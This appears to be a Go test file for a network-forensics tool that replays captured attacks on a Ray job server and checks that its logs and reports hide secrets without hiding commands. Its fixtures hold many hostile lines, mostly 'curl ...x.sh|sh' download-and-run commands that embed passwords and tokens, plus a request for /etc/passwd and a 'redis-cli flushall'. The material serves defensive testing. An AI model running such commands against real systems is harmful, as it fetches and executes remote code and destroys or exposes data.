package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// exchanges writes a capture of connections with one request and one answer each. Checksums are 0.
type exchanges struct {
	bytes.Buffer
	at   uint32
	port uint16
}

func newExchanges() *exchanges {
	x := &exchanges{at: 1700000000, port: 40000}
	for _, v := range []uint32{0xa1b2c3d4, 2 | 4<<16, 0, 0, 65535, 101} { // raw IP
		binary.Write(x, binary.LittleEndian, v)
	}
	return x
}

func (x *exchanges) packet(src, dst netip.AddrPort, seq, ack uint32, flags byte, data string) {
	b := make([]byte, 40, 40+len(data))
	b[0], b[8], b[9] = 0x45, 64, 6
	binary.BigEndian.PutUint16(b[2:], uint16(40+len(data)))
	copy(b[12:], src.Addr().AsSlice())
	copy(b[16:], dst.Addr().AsSlice())
	t := b[20:]
	binary.BigEndian.PutUint16(t, src.Port())
	binary.BigEndian.PutUint16(t[2:], dst.Port())
	binary.BigEndian.PutUint32(t[4:], seq)
	binary.BigEndian.PutUint32(t[8:], ack)
	t[12], t[13] = 5<<4, flags
	binary.BigEndian.PutUint16(t[14:], 65000)
	b = append(b, data...)
	for _, v := range []uint32{x.at, 0, uint32(len(b)), uint32(len(b))} {
		binary.Write(x, binary.LittleEndian, v)
	}
	x.Write(b)
	x.at++
}

func (x *exchanges) exchange(src, dst string, port uint16, request, answer string) {
	const syn, ack, fin, psh = 2, 16, 1, 8
	x.port++
	c, s := netip.AddrPortFrom(netip.MustParseAddr(src), x.port), netip.AddrPortFrom(netip.MustParseAddr(dst), port)
	n, m := uint32(len(request)), uint32(len(answer))
	x.packet(c, s, 100, 0, syn, "")
	x.packet(s, c, 500, 101, syn|ack, "")
	x.packet(c, s, 101, 501, ack, "")
	x.packet(c, s, 101, 501, ack|psh, request)
	x.packet(s, c, 501, 101+n, ack|psh, answer)
	x.packet(c, s, 101+n, 501+m, ack|fin, "")
	x.packet(s, c, 501+m, 102+n, ack|fin, "")
	x.packet(c, s, 102+n, 502+m, ack, "")
}

func message(head, body string) string {
	return fmt.Sprintf("%s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", head, len(body), body)
}

// leaks are commands, each with the secret Sw0rdfishNN in it and one that must stay readable behind it.
var leaks = []string{
	"curl -u admin:%s http://198.51.100.77/x.sh|sh", "curl -uadmin:%s http://198.51.100.77/x.sh|sh", "curl --user 'admin:%s' http://198.51.100.77/x.sh|sh",
	"mysql -uroot -p%s db; curl http://198.51.100.77/x.sh|sh", "tool --password=%s; curl http://198.51.100.77/x.sh|sh",
	"tool --password %s; curl http://198.51.100.77/x.sh|sh", "sshpass -p %s ssh a@b; curl http://198.51.100.77/x.sh|sh",
	"wget -qO- http://bob:%s@198.51.100.77/x.sh|sh", "curl http://198.51.100.77/x.sh?token=%s|sh", "curl 'http://198.51.100.77/x.sh?a=b&api_key=%s'|sh",
	"curl -H 'Authorization: Bearer %s' http://198.51.100.77/x.sh|sh", "curl -H 'Authorization: Basic %s' http://198.51.100.77/x.sh|sh",
	"curl -H 'X-Api-Key: %s' http://198.51.100.77/x.sh|sh", "HF_TOKEN=%s curl http://198.51.100.77/x.sh|sh", "export DB_PASS='%s'; curl http://198.51.100.77/x.sh|sh",
	"redis-cli -a %s flushall; curl http://198.51.100.77/x.sh|sh", "ghp_%sAbCdEf0123 curl http://198.51.100.77/x.sh|sh",
	`python -c 'import os; os.environ["AWS_SECRET_ACCESS_KEY"]="%s"; os.system("curl http://198.51.100.77/x.sh|sh")'`,
}

// TestNoSecretLeaves: what stands in jobs and requests is in no output, and what runs is in all of them.
func TestNoSecretLeaves(t *testing.T) {
	x := newExchanges()
	secret := func(i int) string { return fmt.Sprintf("Sw0rdfish%02d", i) }
	for i, l := range leaks {
		job, _ := json.Marshal(map[string]any{"entrypoint": fmt.Sprintf(l, secret(i)), "runtime_env": map[string]any{
			"env_vars": map[string]string{"API_TOKEN": secret(50)}, "working_dir": "https://bob:" + secret(51) + "@198.51.100.77/w.zip?sig=" + secret(52)}})
		x.exchange(fmt.Sprintf("203.0.113.%d", 10+i), "10.20.0.10", 8265,
			message("POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nReferer: http://h/?token="+secret(53)+"\r\nUser-Agent: x password="+secret(54), string(job)),
			message("HTTP/1.1 200 OK", `{"job_id":"raysubmit_1","submission_id":"raysubmit_1"}`))
	}
	x.exchange("203.0.113.9", "10.20.0.10", 8265, "GET /logs/?file=/etc/passwd&token="+secret(55)+" HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YWxpY2U6U3cwcmRmaXNo\r\n\r\n",
		message("HTTP/1.1 200 OK", `{"password":"`+secret(56)+`"}`))
	x.exchange("10.20.0.10", "198.51.100.77", 80, "GET /x.sh?token="+secret(57)+" HTTP/1.1\r\nHost: 198.51.100.77\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: 10\r\n\r\n#!/bin/sh\n")
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "x.pcap"), x.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"zeek", "json"} {
		for _, mask := range []bool{true, false} {
			out := fmt.Sprintf("%s-%v", format, mask)
			args := []string{"replay", "--ignore-checksums", "--format", format, "--out", out, "--report", out + "/r.html", "--export", out + "/export", "x.pcap"}
			if mask {
				args = append(args, "--mask-logs")
			}
			r := invoke(t, dir, nil, args...)
			if r.code != 0 || r.stderr != "" {
				t.Fatal(r)
			}
			texts := map[string]string{"terminal": r.stdout}
			tail := invoke(t, dir, nil, "tail", "--once", "--n", "1000", out)
			texts["tail"] = tail.stdout
			for name, want := range map[string]string{"terminal": "http://198.51.100.77/x.sh", "tail": "http://198.51.100.77/x.sh"} {
				if n := strings.Count(texts[name], want); n < len(leaks) {
					t.Errorf("%s %s names %s %d times: it hides commands\n%s", out, name, want, n, texts[name])
				}
			}
			filepath.WalkDir(filepath.Join(dir, out), func(path string, d fs.DirEntry, err error) error {
				if err == nil && !d.IsDir() {
					b, _ := os.ReadFile(path)
					texts[filepath.Base(path)] = string(b)
				}
				return err
			})
			for _, name := range []string{"notice.log", "ray.log", "incidents.log", "http.log", "r.html", "findings.jsonl", "incidents.jsonl", "indicators.csv", "stix.json"} {
				if texts[name] == "" {
					t.Errorf("%s: no %s", out, name)
				}
			}
			for name, text := range texts {
				if name == "http.log" && !mask {
					if !strings.Contains(text, secret(57)) {
						t.Error("http.log is not Zeek's")
					}
					continue
				}
				if i := strings.Index(text, "Sw0rdfish"); i >= 0 {
					t.Errorf("%s %s: %s", out, name, text[max(0, i-120):min(len(text), i+40)])
				}
				if strings.Contains(text, "YWxpY2U6") || mask && name == "http.log" && strings.Contains(text, "alice") {
					t.Errorf("%s %s has a login", out, name)
				}
			}
			if r := invoke(t, dir, nil, "extract", "--ignore-checksums", "-o", out+".pcapng", "--finding", findingOf(texts["findings.jsonl"]), "x.pcap"); r.code != 0 {
				t.Error(r)
			}
			b, _ := os.ReadFile(filepath.Join(dir, out+".pcapng"))
			comments := strings.Split(string(b), "raytap jobsubmit/")[1:] // packets have it, comments not
			for _, c := range comments {
				if c, _, _ := strings.Cut(c, " of the capture"); strings.Contains(c, "Sw0rdfish") {
					t.Errorf("comment: %.400s", c)
				}
			}
			if len(comments) == 0 {
				t.Error("no comments")
			}
			for name, want := range map[string]fs.FileMode{out + "/notice.log": 0o640, out: 0o750, out + "/r.html": 0o640, out + "/export": 0o750, out + "/export/stix.json": 0o640, out + ".pcapng": 0o600} {
				if info, err := os.Stat(filepath.Join(dir, name)); err != nil || info.Mode().Perm() != want {
					t.Errorf("%s: %v, %v", name, info.Mode(), err)
				}
			}
		}
	}
}

func findingOf(lines string) string {
	var f struct {
		ID string `json:"finding_id"`
	}
	line, _, _ := strings.Cut(lines, "\n")
	json.Unmarshal([]byte(line), &f)
	return f.ID
}

// TestNobodysFilesAreDestroyed: a report is not written through a link, and logs that are not raytap's stay.
func TestNobodysFilesAreDestroyed(t *testing.T) {
	dir := t.TempDir()
	at := func(name string) string { return filepath.Join(dir, name) }
	x := newExchanges()
	x.exchange("10.20.0.9", "10.20.0.10", 80, "GET / HTTP/1.1\r\nHost: h\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
	os.WriteFile(at("x.pcap"), x.Bytes(), 0o600)
	os.WriteFile(at("victim"), []byte("mine"), 0o600)
	os.Symlink("victim", at("r.html"))
	if r := invoke(t, dir, nil, "replay", "--quiet", "--ignore-checksums", "--report", "r.html", "x.pcap"); r.code != 1 || !strings.Contains(r.stderr, "r.html: it is a link") {
		t.Error(r)
	}
	if b, _ := os.ReadFile(at("victim")); string(b) != "mine" {
		t.Errorf("%q", b)
	}
	os.Mkdir(at("case"), 0o755)
	os.WriteFile(at("case/conn.log"), []byte("#separator \\x09\n"), 0o644)
	if r := invoke(t, dir, nil, "replay", "--quiet", "--out", "case", "--logs", "notice", "x.pcap"); r.code != 1 || !strings.Contains(r.stderr, "conn.log in case would be replaced") {
		t.Error(r)
	}
	if b, _ := os.ReadFile(at("case/conn.log")); string(b) != "#separator \\x09\n" {
		t.Errorf("%q", b)
	}
	for _, more := range [][]string{{"--force"}, nil} {
		if r := invoke(t, dir, nil, append([]string{"replay", "--quiet", "--ignore-checksums", "--out", "case", "x.pcap"}, more...)...); r.code != 0 {
			t.Error(r)
		}
	}
	if b, _ := os.ReadFile(at("case/conn.log")); !bytes.Contains(b, []byte("10.20.0.9")) {
		t.Errorf("%q", b)
	}
}
